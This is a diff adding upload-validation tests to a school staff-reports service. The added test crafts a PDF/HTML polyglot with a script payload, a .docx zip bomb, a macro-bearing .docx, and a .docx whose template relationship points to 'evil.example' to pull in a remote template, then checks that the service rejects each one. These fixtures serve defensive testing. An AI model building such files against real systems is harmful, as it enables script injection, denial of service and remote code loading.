@@ -5,6 +5,7 @@ import { ForbiddenError } from '~/server/auth/staff-roles';
 import { minimalPdf } from '~/server/demo/parent-area';
 import { MAX_REPORT_BYTES, UploadRefused, type NewReport, type StaffActor } from '~/server/services/staff-reports';
 import { DATABASES } from '../support/db';
+import { docx, odt } from '../support/crafted-files';
 import { makeFamily, openParentArea, readAll, type Family, type ParentAreaWorld } from '../support/parent-area';
 
 const OFFICER: StaffActor = { type: 'staff', id: 'staff-officer', role: 'officer' };
@@ -34,6 +35,16 @@ function exe(size = 4096): Uint8Array {
   bytes.set([0x4d, 0x5a, 0x90, 0x00, 0x03]);
   bytes.set(new TextEncoder().encode('This program cannot be run in DOS mode.'), 0x4e);
   return bytes;
+}
+
+/** A real PDF of exactly `size` bytes: one long line of text. */
+function pdfOfSize(size: number): Uint8Array {
+  let line = size - minimalPdf(['']).length;
+  for (;;) {
+    const pdf = minimalPdf(['x'.repeat(line)]);
+    if (pdf.length === size) return pdf;
+    line -= pdf.length - size;
+  }
 }
 
 // Uploading, sharing and withdrawing reports in the staff area, checked from
@@ -169,7 +180,7 @@ describe.each(DATABASES)('staff reports on $name', ({ open }) => {
       0,
       0,
       0,
-      ...new Array(16).fill(0),
+      ...new Array<number>(16).fill(0),
       11,
       0,
       0,
@@ -189,17 +200,56 @@ describe.each(DATABASES)('staff reports on $name', ({ open }) => {
 
   it('refuses a file over the size limit and keeps nothing, not even the part already written', async () => {
     await setUp();
-    const big = new Uint8Array(MAX_REPORT_BYTES + 1);
-    big.set(minimalPdf(['Big']));
+    const big = pdfOfSize(MAX_REPORT_BYTES + 1);
     const { stream, counter } = countedStream(big);
     await expect(upload({ stream, fileName: 'big.pdf' })).rejects.toMatchObject({ code: 'staff:report.file.tooBig' });
     expect(counter.pulled).toBe(counter.chunks);
     expect(await storedFiles()).toEqual([]);
     expect(await reports().forConference(family.conferenceId)).toEqual([]);
     // Exactly at the limit is fine.
-    const id = await upload({ stream: countedStream(big.subarray(0, MAX_REPORT_BYTES)).stream, fileName: 'just.pdf' });
+    const just = pdfOfSize(MAX_REPORT_BYTES);
+    const id = await upload({ stream: countedStream(just).stream, fileName: 'just.pdf' });
     expect((await reports().get(id))?.sizeBytes).toBe(MAX_REPORT_BYTES);
-  });
+  }, 120_000);
+
+  it('refuses a PDF/HTML polyglot, a .docx bomb, a .docx with macros or a remote template, and keeps nothing', async () => {
+    await setUp();
+    const polyglot = Buffer.concat([
+      Buffer.from(minimalPdf(['Report'])),
+      Buffer.from('<html><script>alert(1)</script>'),
+    ]);
+    const zeros = new Uint8Array(30 * 1024 * 1024);
+    const bomb = docx([
+      { name: 'word/media/a.bin', data: zeros },
+      { name: 'word/media/b.bin', data: zeros },
+    ]);
+    const macros = docx([{ name: 'word/vbaProject.bin', data: 'Attribute VB_Name' }]);
+    const template = docx(
+      [],
+      '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+    );
+    for (const [fileName, file, code] of [
+      ['polyglot.pdf', polyglot, 'staff:report.file.unsafe'],
+      ['bomb.docx', bomb, 'staff:report.file.unsafe'],
+      // Named for what it is from its first bytes already (a macro-enabled document).
+      ['macros.docx', macros, 'staff:report.file.type'],
+      ['template.docx', template, 'staff:report.file.unsafe'],
+    ] as const) {
+      await expect(upload({ stream: Readable.from([Buffer.from(file)]), fileName }), fileName).rejects.toMatchObject({
+        code,
+      });
+    }
+    expect(await storedFiles()).toEqual([]);
+    expect(await reports().forConference(family.conferenceId)).toEqual([]);
+    expect(await parentTitles('one')).toEqual([]);
+    // A real .docx and .odt are taken.
+    await upload({ stream: Readable.from([Buffer.from(docx())]), fileName: 'report.docx', title: 'Word' });
+    await upload({ stream: Readable.from([Buffer.from(odt())]), fileName: 'report.odt', title: 'OpenDocument' });
+    expect((await reports().forConference(family.conferenceId)).map((r) => r.title).sort()).toEqual([
+      'OpenDocument',
+      'Word',
+    ]);
+  }, 60_000);
 
   it('refuses an empty file and keeps nothing', async () => {
     await setUp();
